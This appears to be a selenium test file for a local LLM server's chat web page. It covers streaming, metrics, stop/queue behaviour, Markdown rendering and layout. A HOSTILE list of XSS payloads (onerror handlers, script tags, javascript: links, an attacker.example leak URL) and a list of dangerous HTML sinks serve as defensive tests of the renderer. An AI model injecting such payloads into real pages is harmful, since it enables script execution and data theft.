"""The chat page of `pyklei serve` in a real headless browser (Debian's chromium and
chromium-driver, driven by selenium): type a question, watch the reply stream in, read the
metrics (time to first token, decode tok/s, cost per million tokens at the page's price).
scripts/test.sh installs chromium when it is missing; elsewhere the test skips, saying why.

Replies SmolLM2 will not write on demand (Markdown, an injection attempt, reasoning, a reply held
open while the user types) come from a stub of fetch installed in the page (`stub_replies`):
the page's own code parses and renders them exactly as it does the server's stream."""
import re
import shutil
import urllib.request
from pathlib import Path

import pytest

from live_server import LiveServer

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
DRIVER = shutil.which("chromedriver")
PAGE = Path(__file__).resolve().parents[2] / "pyklei" / "server" / "static" / "chat.html"


@pytest.fixture(scope="module")
def browser():
    webdriver = pytest.importorskip("selenium.webdriver")
    if not (CHROMIUM and DRIVER):
        pytest.skip("needs chromium and chromedriver (Debian: apt-get install chromium "
                    "chromium-driver; scripts/test.sh installs them)")
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service

    opts = Options()
    opts.binary_location = CHROMIUM
    for a in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
              "--window-size=1200,900"):
        opts.add_argument(a)
    drv = webdriver.Chrome(service=Service(DRIVER), options=opts)
    yield drv
    drv.quit()


@pytest.fixture(scope="module")
def server(smollm2_q4):
    with LiveServer(smollm2_q4, "--parallel", "2", "--model-id", "smollm2") as srv:
        yield srv


def wait(browser, timeout=120):
    from selenium.webdriver.support.ui import WebDriverWait
    return WebDriverWait(browser, timeout, poll_frequency=0.02)


def open_page(browser, server, viewport=None):
    from selenium.webdriver.common.by import By
    if viewport:      # the viewport a phone or a laptop gives the page, exactly
        w, h = viewport
        browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {
            "width": w, "height": h, "deviceScaleFactor": 1, "mobile": w < 600})
    else:
        browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    browser.get(server.url + "/")
    browser.execute_script("localStorage.clear()")     # no settings saved by an earlier test
    browser.refresh()
    wait(browser).until(lambda d: d.find_element(By.ID, "model").text == "smollm2")


def piece(content=None, reasoning=None, finish=None) -> dict:
    """One chat.completion.chunk as the server streams it (pyklei.server.openai_api.chunk)."""
    delta = {}
    if content:
        delta["content"] = content
    if reasoning:
        delta["reasoning_content"] = delta["reasoning"] = reasoning
    return {"id": "chatcmpl-stub", "object": "chat.completion.chunk", "created": 0,
            "model": "stub", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def streamed(*pieces: str, finish="stop", reasoning=()) -> list:
    return ([piece(reasoning=r) for r in reasoning] + [piece(p) for p in pieces]
            + [piece(finish=finish), "[DONE]"])


HOLD = "HOLD"      # in a stubbed stream: wait here until window.__stub.release() is called

STUB = """
const st = window.__stub = { replies: arguments[0], requests: [], aborted: 0, release: null };
const realFetch = window.fetch.bind(window);
window.fetch = (url, opts) => {
  if (!String(url).endsWith("/v1/chat/completions")) return realFetch(url, opts);
  st.requests.push(JSON.parse(opts.body));
  const events = st.replies.shift() || [];
  const enc = new TextEncoder();
  const body = new ReadableStream({ start(c) {
    let gone = false;
    opts.signal.addEventListener("abort", () => {   // what a real fetch does on abort()
      st.aborted += 1; gone = true; c.error(new DOMException("aborted", "AbortError")); });
    (async () => {
      for (const ev of events) {
        if (ev === "HOLD") { await new Promise((r) => { st.release = r; }); continue; }
        if (gone) return;
        c.enqueue(enc.encode("data: " + (typeof ev === "string" ? ev : JSON.stringify(ev)) + "\\n\\n"));
        await new Promise((r) => setTimeout(r, 5));
      }
      if (!gone) c.close();
    })();
  }});
  return Promise.resolve(new Response(body, { headers: { "Content-Type": "text/event-stream" } }));
};
"""


def stub_replies(browser, *replies):
    """The page's next requests to /v1/chat/completions get these streams, in order."""
    browser.execute_script(STUB, list(replies))


def ask(browser, text):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    box = browser.find_element(By.ID, "prompt")
    box.send_keys(text)
    box.send_keys(Keys.ENTER)


def replies_done(browser, n):
    from selenium.webdriver.common.by import By
    wait(browser).until(lambda d: len(d.find_elements(By.CSS_SELECTOR, ".assistant.done")) >= n)
    return browser.find_elements(By.CSS_SELECTOR, ".assistant")[n - 1]


def test_a_question_gets_a_streamed_answer_and_metrics(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    price = browser.find_element(By.ID, "price")
    price.clear()
    price.send_keys("0.36")                 # $/hour: the cost line must follow it
    browser.find_element(By.ID, "temperature").clear()
    browser.find_element(By.ID, "temperature").send_keys("0")
    box = browser.find_element(By.ID, "prompt")
    box.send_keys("What is the capital of France?")
    browser.find_element(By.ID, "send").click()

    # streamed: the reply is shown piece by piece while it is written, then finished
    reply = wait(browser).until(lambda d: (d.find_elements(By.CSS_SELECTOR, ".assistant.streaming")
                                           or [None])[0])
    wait(browser).until(lambda d: "done" in reply.get_attribute("class"))
    assert "Paris" in reply.text
    assert int(reply.get_attribute("data-pieces")) > 3, "the reply did not stream"
    assert reply.get_attribute("data-finish") == "stop"
    assert not reply.find_elements(By.CSS_SELECTOR, ".mark"), "a whole reply is not marked"
    assert browser.find_element(By.ID, "status").text == "done"
    assert browser.find_element(By.CSS_SELECTOR, ".user").text == "What is the capital of France?"

    ttft = browser.find_element(By.ID, "ttft").text
    tps = browser.find_element(By.ID, "tps").text
    cost = browser.find_element(By.ID, "cost").text
    assert ttft.endswith(" ms") and float(ttft[:-3]) > 0
    assert tps.endswith(" tok/s") and float(tps[:-6]) > 0
    # cost per million tokens = $/hour / (3600 s * tok/s) * 1e6, from the figures shown
    assert cost.startswith("$")
    expect = 0.36 / (3600 * float(tps[:-6])) * 1e6
    assert float(cost[1:]) == pytest.approx(expect, rel=0.02, abs=0.001)
    assert "$0.36/hour" in browser.find_element(By.ID, "price-note").text
    tokens = int(browser.find_element(By.ID, "tokens").text)
    assert tokens > 2


def test_a_reply_cut_at_max_tokens_is_marked(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)      # the real model, stopped by the server at 5 tokens
    for field, value in (("max-tokens", "5"), ("temperature", "0")):
        browser.find_element(By.ID, field).clear()
        browser.find_element(By.ID, field).send_keys(value)
    ask(browser, "Write a long poem about the sea.")
    reply = replies_done(browser, 1)
    assert reply.get_attribute("data-finish") == "length"
    mark = reply.find_element(By.CSS_SELECTOR, ".mark.cut")
    assert mark.is_displayed() and "cut at the token limit (max tokens 5)" in mark.text
    assert browser.find_element(By.ID, "status").text == "cut at the token limit"


def test_stop_cancels_the_running_request(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    for field, value in (("max-tokens", "2000"), ("temperature", "0")):
        browser.find_element(By.ID, field).clear()
        browser.find_element(By.ID, field).send_keys(value)
    before = server.health()["cancelled"]
    ask(browser, "Count from 1 to 1000, separated by commas.")
    wait(browser).until(lambda d: d.find_element(By.ID, "status").text == "streaming…")
    browser.find_element(By.ID, "stop").click()
    reply = replies_done(browser, 1)
    assert reply.get_attribute("data-finish") == "stopped"
    assert reply.find_element(By.CSS_SELECTOR, ".mark.stopped").text == "— stopped"
    assert browser.find_element(By.ID, "status").text == "stopped"
    # the abort reached the server: its sequence was cancelled, long before 2000 tokens
    server.wait_health(lambda h: h["cancelled"] > before and h["running"] == 0, timeout=10)


MARKDOWN = """## Plan

Use **bold**, *italic*, `inline code` and a [link](https://example.com/a_(b)).

1. first
2. second
   - nested

```python
print("hi")  # <b>not bold</b>
```

| a | b |
|---|--:|
| 1 | 2 |
"""


def test_markdown_is_rendered_as_elements_with_a_copy_button(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    stub_replies(browser, streamed(*re.findall(r".{1,7}", MARKDOWN, re.S)))
    browser.execute_script("""window.__copied = [];
        navigator.clipboard.writeText = async (t) => { window.__copied.push(t); };""")
    ask(browser, "show me markdown")
    reply = replies_done(browser, 1)
    answer = reply.find_element(By.CSS_SELECTOR, ".answer")
    assert answer.find_element(By.TAG_NAME, "h2").text == "Plan"
    assert answer.find_element(By.CSS_SELECTOR, "p strong").text == "bold"
    assert answer.find_element(By.CSS_SELECTOR, "p em").text == "italic"
    assert answer.find_element(By.CSS_SELECTOR, "p code").text == "inline code"
    a = answer.find_element(By.CSS_SELECTOR, "p a")
    assert a.text == "link" and a.get_attribute("href") == "https://example.com/a_(b)"
    assert a.get_attribute("rel") == "noopener noreferrer nofollow"
    items = answer.find_elements(By.CSS_SELECTOR, "ol > li")
    assert [li.text.split("\n")[0] for li in items] == ["first", "second"]
    assert items[1].find_element(By.CSS_SELECTOR, "ul > li").text == "nested"
    code = answer.find_element(By.CSS_SELECTOR, "pre > code.language-python")
    assert code.text == 'print("hi")  # <b>not bold</b>'
    assert not answer.find_elements(By.CSS_SELECTOR, "b"), "text in code became HTML"
    assert [c.text for c in answer.find_elements(By.CSS_SELECTOR, "td")] == ["1", "2"]
    assert answer.find_elements(By.CSS_SELECTOR, "td")[1].value_of_css_property("text-align") == "right"
    assert "**" not in answer.text and "```" not in answer.text

    copy = answer.find_element(By.CSS_SELECTOR, ".code button.copy")
    copy.click()
    wait(browser, 5).until(lambda d: copy.text == "copied")
    assert browser.execute_script("return window.__copied") == ['print("hi")  # <b>not bold</b>']


def test_finished_blocks_keep_their_nodes_while_the_reply_streams(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    stub_replies(browser, [piece("First **paragraph**.\n\nSecond"), HOLD,
                           piece(" paragraph grows"), HOLD, piece(" more."),
                           piece(finish="stop"), "[DONE]"])
    ask(browser, "go")
    first = wait(browser).until(lambda d: d.find_element(By.CSS_SELECTOR, ".assistant .answer p"))
    browser.execute_script("arguments[0].__kept = true", first)
    for _ in range(2):
        wait(browser, 10).until(lambda d: d.execute_script("return !!window.__stub.release"))
        browser.execute_script("const r = window.__stub.release; window.__stub.release = null; r()")
    reply = replies_done(browser, 1)
    paras = reply.find_elements(By.CSS_SELECTOR, ".answer p")
    assert [p.text for p in paras] == ["First paragraph.", "Second paragraph grows more."]
    assert browser.execute_script("return arguments[0].__kept === true && arguments[0].isConnected",
                                  paras[0]), "a finished paragraph was rebuilt"


# what a model can be made to write (prompt injection): none may become markup or run
HOSTILE = [
    "<img src=x onerror=\"window.__pwned = 1\">",
    "<script>window.__pwned = 2</script>",
    "[click](javascript:window.__pwned=3) [two]( JAVASCRIPT:window.__pwned=4 )",
    "[data](data:text/html,<script>window.__pwned=5</script>) [rel](/v1/models)",
    "![pic](https://attacker.example/leak?q=secret) ![js](javascript:alert(1))",
    "<a href=\"javascript:window.__pwned=6\">a</a> <iframe src=\"https://x.example\"></iframe>",
    "**<svg onload=window.__pwned=7>** `<img src=x onerror=window.__pwned=8>`",
    "```\"><img src=x onerror=window.__pwned=9>\ncode\n```",
    "| <img src=x onerror=window.__pwned=10> |\n|---|\n| <script>window.__pwned=11</script> |",
    "&lt;b&gt; &#x3C;script&#x3E; <https://ok.example/x> javascript:window.__pwned=12",
]


def test_model_output_never_becomes_html(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    text = "\n\n".join(HOSTILE)
    stub_replies(browser, streamed(*re.findall(r".{1,5}", text, re.S)))
    ask(browser, "attack")
    reply = replies_done(browser, 1)
    found = browser.execute_script("""
        const answer = arguments[0].querySelector(".answer"), all = answer.querySelectorAll("*");
        return {
          tags: [...new Set([...all].map((e) => e.tagName.toLowerCase()))].sort(),
          handlers: [...all].flatMap((e) => [...e.attributes].map((a) => a.name))
                            .filter((n) => n.startsWith("on") || n === "src" || n === "style"),
          hrefs: [...answer.querySelectorAll("a")].map((a) => a.getAttribute("href")),
          pwned: window.__pwned === undefined ? null : window.__pwned,
        };""", reply)
    assert found["pwned"] is None
    assert set(found["tags"]) <= {"p", "a", "strong", "code", "pre", "div", "span", "button",
                                  "table", "thead", "tbody", "tr", "th", "td"}, found["tags"]
    assert found["handlers"] == []
    # only the absolute http(s) ones: the image's (a link, never loaded), the URL in the
    # iframe's text and the autolink; javascript:, data: and relative URLs are their label as text
    assert found["hrefs"] == ["https://attacker.example/leak?q=secret", "https://x.example/",
                              "https://ok.example/x"]
    shown = reply.find_element(By.CSS_SELECTOR, ".answer").text
    for literal in ('<img src=x onerror="window.__pwned = 1">', "<script>window.__pwned = 2</script>",
                    "<iframe", "<svg onload=window.__pwned=7>", "&lt;b&gt; &#x3C;script&#x3E;"):
        assert literal in shown
    code = reply.find_element(By.CSS_SELECTOR, "pre code")
    assert code.text == "code" and code.get_attribute("class") == "language-img"


def test_the_page_never_parses_strings_as_html():
    """The renderer builds nodes; no sink that parses HTML or code from a string is used."""
    page = PAGE.read_text()
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(",
                 "new Function", "DOMParser", "createContextualFragment", "srcdoc"):
        assert sink not in page, sink
    assert not re.search(r"""(src|href)=["']https?://""", page), "the page loads nothing remote"


def test_reasoning_is_shown_apart_from_the_answer_and_not_sent_back(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    stub_replies(browser,
                 streamed("The answer is **4**.", reasoning=["2 plus 2: ", "count up ", "twice."]),
                 streamed("ok"))
    ask(browser, "2+2?")
    reply = replies_done(browser, 1)
    fold = reply.find_element(By.CSS_SELECTOR, "details.reasoning")
    assert fold.get_attribute("open") is None, "the reasoning folds once the answer begins"
    assert fold.find_element(By.TAG_NAME, "summary").text.startswith("reasoning (")
    fold.find_element(By.TAG_NAME, "summary").click()
    assert fold.find_element(By.CSS_SELECTOR, ".reasoning-text").text == "2 plus 2: count up twice."
    answer = reply.find_element(By.CSS_SELECTOR, ".answer")
    assert answer.text == "The answer is 4." and "count up" not in answer.text
    ask(browser, "thanks")
    replies_done(browser, 2)
    sent = browser.execute_script("return window.__stub.requests[1].messages")
    assert sent == [{"role": "user", "content": "2+2?"},
                    {"role": "assistant", "content": "The answer is **4**."},
                    {"role": "user", "content": "thanks"}]


def test_enter_while_a_reply_streams_queues_the_message_visibly(server, browser):
    from selenium.webdriver.common.by import By

    open_page(browser, server)
    stub_replies(browser, [piece("Working"), HOLD, piece(" on it."), piece(finish="stop"), "[DONE]"],
                 streamed("Second answer."))
    ask(browser, "first")
    wait(browser, 10).until(lambda d: d.execute_script("return !!window.__stub.release"))
    ask(browser, "second")                          # Enter while the reply streams
    queued = browser.find_element(By.CSS_SELECTOR, ".user.queued")
    assert queued.is_displayed() and queued.text.startswith("second")
    assert "queued — sent when the reply ends" in queued.text
    hint = browser.find_element(By.ID, "hint")
    assert hint.is_displayed() and "1 message queued" in hint.text
    assert browser.find_element(By.ID, "prompt").get_attribute("value") == ""
    assert browser.find_element(By.ID, "send").text == "Queue"
    assert browser.execute_script("return window.__stub.requests.length") == 1

    browser.execute_script("window.__stub.release()")
    second = replies_done(browser, 2)
    assert second.text == "Second answer."
    assert not browser.find_elements(By.CSS_SELECTOR, ".queued") and hint.text == ""
    order = [(e.get_attribute("class").split()[1], e.text.split("\n")[0])
             for e in browser.find_elements(By.CSS_SELECTOR, ".msg")]
    assert order == [("user", "first"), ("assistant", "Working on it."),
                     ("user", "second"), ("assistant", "Second answer.")]
    sent = browser.execute_script("return window.__stub.requests[1].messages")
    assert [m["content"] for m in sent] == ["first", "Working on it.", "second"]


def test_stop_ends_a_stubbed_stream_and_the_queue_goes_on_without_a_cancelled_message(server, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    open_page(browser, server)
    stub_replies(browser, [piece("Half"), HOLD, piece(" never shown")], streamed("Next."))
    ask(browser, "first")
    wait(browser, 10).until(lambda d: d.execute_script("return !!window.__stub.release"))
    ask(browser, "second")
    ask(browser, "third")
    assert "2 messages queued" in browser.find_element(By.ID, "hint").text
    browser.find_elements(By.CSS_SELECTOR, ".queued button")[1].click()   # cancel "third"
    assert browser.find_element(By.ID, "prompt").get_attribute("value") == "third"
    assert "1 message queued" in browser.find_element(By.ID, "hint").text
    browser.find_element(By.ID, "prompt").send_keys(Keys.ESCAPE)     # Esc is Stop
    first = replies_done(browser, 1)
    assert first.get_attribute("data-finish") == "stopped" and "— stopped" in first.text
    assert browser.execute_script("return window.__stub.aborted") == 1
    assert replies_done(browser, 2).text == "Next."
    assert [m["content"] for m in browser.execute_script("return window.__stub.requests[1].messages")] \
        == ["first", "Half", "second"]


def test_several_models_are_a_menu_and_the_choice_is_sent(smollm2_q4, tmp_path, browser):
    """A server of two models: the header is a menu of them; the chosen one answers (it is
    loaded on demand) and stays chosen after a reload."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select
    for name in ("first", "second"):
        shutil.copy(smollm2_q4, tmp_path / f"{name}.gguf")
    with LiveServer([tmp_path / "first.gguf", tmp_path / "second.gguf"], "--parallel", "1",
                    "--models-max", "2") as srv:
        browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        browser.get(srv.url + "/")
        browser.execute_script("localStorage.clear()")
        browser.refresh()
        menu = wait(browser).until(lambda d: d.find_element(By.ID, "model-menu"))
        assert [o.text for o in Select(menu).options] == ["first", "second"]
        assert Select(menu).first_selected_option.text == "first"
        Select(menu).select_by_value("second")
        ask(browser, "Hi")
        replies_done(browser, 1)
        models = {m["id"]: (m["status"], m["loads"]) for m in srv.health()["models"]}
        assert models == {"first": ("loaded", 0), "second": ("loaded", 1)}
        browser.refresh()
        menu = wait(browser).until(lambda d: d.find_element(By.ID, "model-menu"))
        assert Select(menu).first_selected_option.text == "second"


def test_the_favicon_is_served_and_linked(server, browser):
    with urllib.request.urlopen(server.url + "/favicon.ico", timeout=10) as r:
        assert r.status == 200 and r.headers["Content-Type"] == "image/svg+xml"
        assert r.read().lstrip().startswith(b"<svg")
    open_page(browser, server)
    href = browser.execute_script("return document.querySelector('link[rel=icon]').href")
    assert href == server.url + "/favicon.ico"


LAYOUT = """
const vw = document.documentElement.clientWidth, header = document.querySelector("header");
const shown = [...header.children].filter((e) => e.offsetParent !== null && getComputedStyle(e).position !== "absolute");
const rects = shown.map((e) => e.getBoundingClientRect());
const outside = [...document.querySelectorAll("body *")].filter((e) => {
  // code and tables scroll inside their box; the title clips its overflow with an ellipsis
  if (e.offsetParent === null || e.closest(".md pre, .table-wrap, #title")) return false;
  const r = e.getBoundingClientRect();
  return r.width > 0 && (r.left < -0.5 || r.right > vw + 0.5);
}).map((e) => e.tagName + "#" + e.id + "." + e.className);
return { vw, scrollWidth: document.documentElement.scrollWidth, outside,
         tops: rects.map((r) => Math.round(r.top)), bottoms: rects.map((r) => Math.round(r.bottom)),
         names: shown.map((e) => e.id || e.tagName), headerHeight: header.getBoundingClientRect().height,
         title: getComputedStyle(document.getElementById("title")).textOverflow };
"""


@pytest.mark.parametrize("viewport", [(1280, 800), (375, 800)], ids=["laptop", "phone"])
def test_the_layout_holds_on_a_laptop_and_a_phone(server, browser, viewport):
    from selenium.webdriver.common.by import By

    open_page(browser, server, viewport)
    try:
        # the worst a reply brings: a long code line, a long URL, a wide table, a long word
        wide = ("```\n" + "x = 1  # " + "long " * 60 + "\n```\n\nhttps://example.com/" + "a" * 200
                + "\n\n| " + " | ".join(f"column {i}" for i in range(14)) + " |\n|"
                + "---|" * 14 + "\n\n" + "W" * 300)
        stub_replies(browser, streamed(wide))
        browser.execute_script("document.getElementById('model').textContent = "
                               "'a-very-long-model-name-Qwen3-30B-A3B-Instruct-2507-qsi4c32.gguf'")
        ask(browser, "a long question " * 20)
        replies_done(browser, 1)
        m = browser.execute_script(LAYOUT)
        assert m["vw"] == viewport[0]
        assert m["scrollWidth"] <= m["vw"], m
        assert m["outside"] == [], m
        # the header is one line: its items side by side, none wrapped below another
        assert len(set(m["tops"])) == 1 or max(m["tops"]) < min(m["bottoms"]), m
        assert m["headerHeight"] < 60, m
        assert m["title"] == "ellipsis"
        toggle = browser.find_element(By.ID, "settings-toggle")
        settings = browser.find_element(By.ID, "settings")
        if viewport[0] >= 1000:
            assert not toggle.is_displayed() and settings.is_displayed()
            assert {"settings", "clear", "settings-toggle"} & set(m["names"]) == {"settings", "clear"}
        else:      # a phone: the settings fold behind a button, and unfold inside the screen
            assert toggle.is_displayed() and not settings.is_displayed()
            toggle.click()
            assert settings.is_displayed()
            r = browser.execute_script("return arguments[0].getBoundingClientRect().toJSON()", settings)
            assert r["left"] >= 0 and r["right"] <= viewport[0]
            browser.find_element(By.ID, "max-tokens").clear()      # usable there
            toggle.click()
            assert not settings.is_displayed()
        for b in ("send", "stop"):
            r = browser.find_element(By.ID, b).rect
            assert r["x"] >= 0 and r["x"] + r["width"] <= viewport[0]
    finally:
        browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_the_renderer_on_edge_cases(server, browser):
    """renderMarkdown (the page's own function) on what streams and models produce."""
    open_page(browser, server)
    cases = {
        "2 * 3 * 4 and snake_case_name": "<p>2 * 3 * 4 and snake_case_name</p>",
        "***both*** ~~gone~~ \\*not em\\*": "<p><strong><em>both</em></strong> <del>gone</del> *not em*</p>",
        "```js\nlet a = 1;": '<div class="code"><div class="code-head"><span class="lang">js</span>'
                             '<button class="copy" type="button">copy</button></div><pre>'
                             '<code class="language-js">let a = 1;</code></pre></div>',
        "Steps:\n1. a\n2. b": "<p>Steps:</p><ol><li>a</li><li>b</li></ol>",
        "3. c\n4. d": '<ol start="3"><li>c</li><li>d</li></ol>',
        "line one\nline two": "<p>line one<br>line two</p>",
        "> quoted *x*": "<blockquote><p>quoted <em>x</em></p></blockquote>",
        "# T\n---": "<h1>T</h1><hr>",
        "see https://a.example/x).": '<p>see <a href="https://a.example/x" target="_blank" '
                                     'rel="noopener noreferrer nofollow">https://a.example/x</a>).</p>',
        "**unclosed": "<p>**unclosed</p>",
        "#hashtag": "<p>#hashtag</p>",
    }
    got = browser.execute_script(
        "return Object.fromEntries(Object.entries(arguments[0]).map(([k]) =>"
        " [k, renderMarkdown(k).innerHTML]))", cases)
    assert got == cases
